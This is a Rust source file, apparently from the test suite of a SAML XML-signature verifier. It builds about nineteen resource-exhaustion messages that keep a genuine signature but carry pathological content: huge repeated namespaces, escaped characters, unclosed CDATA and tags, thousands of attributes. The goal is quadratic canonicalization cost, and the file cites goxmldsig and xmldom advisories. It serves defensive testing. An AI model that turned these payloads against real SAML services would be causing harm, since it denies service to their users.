//! Attacks with messages of at most about 300 KiB whose canonical form is very long, or whose processing takes time
//! in proportion to the square of their length. The SignedInfo and its value are genuine: anybody who has seen one
//! message of the identity provider can send them with other content, and the work is done before the wrong digest is
//! found.

use super::scene::{Made, Scene};
use super::surgery::{after, with_attribute};
use super::wrapping::extensions;
use super::{Attack, Base, Kind};

const QUADRATIC: &str = "goxmldsig and xmldom advisories (2026)";

const fn row(name: &'static str, description: &'static str, make: fn(&Scene<'_>) -> Made) -> Attack {
    Attack::new(name, Kind::Resource, description, make).from(Base::Response).known_as(QUADRATIC)
}

pub(super) const ATTACKS: &[Attack] = &[
    row(
        "resource/inherited-namespace",
        "a namespace of 1,000 quotation marks, written again on 5,000 elements",
        |scene| {
            let name = "\"".repeat(1_000);
            inherited(scene, &format!("xmlns:x='{name}'"), &"<x:a/>".repeat(5_000))
        },
    ),
    row("resource/inherited-namespaces", "20 long namespaces, each used by 1,000 attributes", |scene| {
        let declarations: String =
            (0..20).map(|number| format!(" xmlns:x{number}='{number}{}'", "\"".repeat(250))).collect();
        let attributes: String = (0..20).map(|number| format!(" x{number}:a=\"\"")).collect();
        inherited(scene, declarations.trim_start(), &format!("<a{attributes}/>").repeat(1_000))
    }),
    row("resource/alternating-namespaces", "two long namespaces by turns, one inside the other", |scene| {
        let name = "\"".repeat(2_000);
        let declarations = format!("xmlns:x='x{name}' xmlns:y='y{name}'");
        let inside = "<x:a><y:a/></x:a>".repeat(1_000);
        inherited(scene, &declarations, &inside)
    }),
    row("resource/escaped-text", "150,000 characters that are escaped in text", |scene| {
        body(scene, &"\u{3e}".repeat(150_000))
    }),
    row("resource/escaped-attributes", "150,000 quotation marks in attributes", |scene| {
        body(scene, &format!("<a b='{}'/>", "\"".repeat(1_500)).repeat(100))
    }),
    row("resource/carriage-returns", "30,000 references to a carriage return", |scene| {
        body(scene, &"&#13;".repeat(30_000))
    }),
    row("resource/sorted-attributes", "5,000 attributes in reverse order", |scene| {
        let attributes: String = (0..5_000).rev().map(|number| format!(" a{number:05}=\"\"")).collect();
        body(scene, &format!("<a{attributes}/>"))
    }),
    row("resource/namespaced-attributes", "2,000 attributes, each of a namespace of its own", |scene| {
        let each: String =
            (0..2_000).map(|number| format!(" xmlns:n{number}=\"urn:{number}\" n{number}:a=\"\"")).collect();
        body(scene, &format!("<a{each}/>"))
    }),
    row(
        "resource/prefixes-anew",
        "1,500 elements inside each other, each declares one prefix again",
        |scene| {
            let start: String = (0..1_500).map(|number| format!("<x:a xmlns:x=\"urn:{number}\">")).collect();
            body(scene, &[start, "</x:a>".repeat(1_500)].concat())
        },
    ),
    row("resource/prefix-in-use", "1,000 prefixes declared, 5,000 elements that use the first", |scene| {
        let declarations: String =
            (0..1_000).map(|number| format!("xmlns:n{number}=\"urn:{number}\" ")).collect();
        inherited(scene, declarations.trim_end(), &"<n0:a/>".repeat(5_000))
    }),
    row("resource/instructions", "30,000 processing instructions", |scene| {
        body(scene, &"<?a?>".repeat(30_000))
    }),
    row("resource/character-data", "15,000 CDATA sections", |scene| {
        body(scene, &"<![CDATA[x]]>".repeat(15_000))
    }),
    row("resource/unclosed-character-data", "a CDATA section without end after 20,000 brackets", |scene| {
        body(scene, &format!("<![CDATA[{}", "]]".repeat(20_000)))
    }),
    row("resource/unclosed-comments", "20,000 beginnings of comments", |scene| {
        body(scene, &"<!--".repeat(20_000))
    }),
    row("resource/unclosed-tags", "50,000 beginnings of tags", |scene| body(scene, &"<a ".repeat(50_000))),
    row("resource/unclosed-quotes", "50,000 attributes that are not closed", |scene| {
        body(scene, &format!("<a {}", "b='\"".repeat(50_000)))
    }),
    row("resource/white-space", "200,000 spaces in a tag", |scene| {
        body(scene, &format!("<a{}/>", " ".repeat(200_000)))
    }),
    row(
        "resource/long-prefix",
        "2,000 elements with a prefix of 50 characters that is declared on each",
        |scene| {
            let prefix = "p".repeat(50);
            body(scene, &format!("<{prefix}:a xmlns:{prefix}=\"urn:x\"/>").repeat(2_000))
        },
    ),
    row(
        "resource/inherited-inclusive",
        "xml:lang of 5,000 characters, inherited by what is signed inclusively",
        |scene| {
            let issued = scene
                .message()
                .canonicalization(vouchsafe_xml::Canonicalization::INCLUSIVE)
                .issue()?
                .into_xml();
            let bent = with_attribute(&issued, &["Response"], &format!("xml:lang='{}'", "\"".repeat(5_000)))?;
            Ok(vec![scene.bent(bent)])
        },
    ),
];

/// Returns the Response with this content in Extensions, under the genuine signature.
fn body(scene: &Scene<'_>, inside: &str) -> Made {
    let issued = scene.message().issue()?.into_xml();
    Ok(vec![scene.bent(after(&issued, &["Response", "Issuer"], &extensions(inside))?)])
}

/// Returns this Response with declarations on the Extensions.
fn inherited(scene: &Scene<'_>, declarations: &str, inside: &str) -> Made {
    let issued = scene.message().issue()?.into_xml();
    let extended = after(&issued, &["Response", "Issuer"], &extensions(""))?;
    let extended = with_attribute(&extended, &["Response", "Extensions"], declarations)?;
    let (head, tail) = extended.split_once("</saml2p:Extensions>").unwrap_or((&extended, ""));
    Ok(vec![scene.bent([head, inside, "</saml2p:Extensions>", tail].concat())])
}
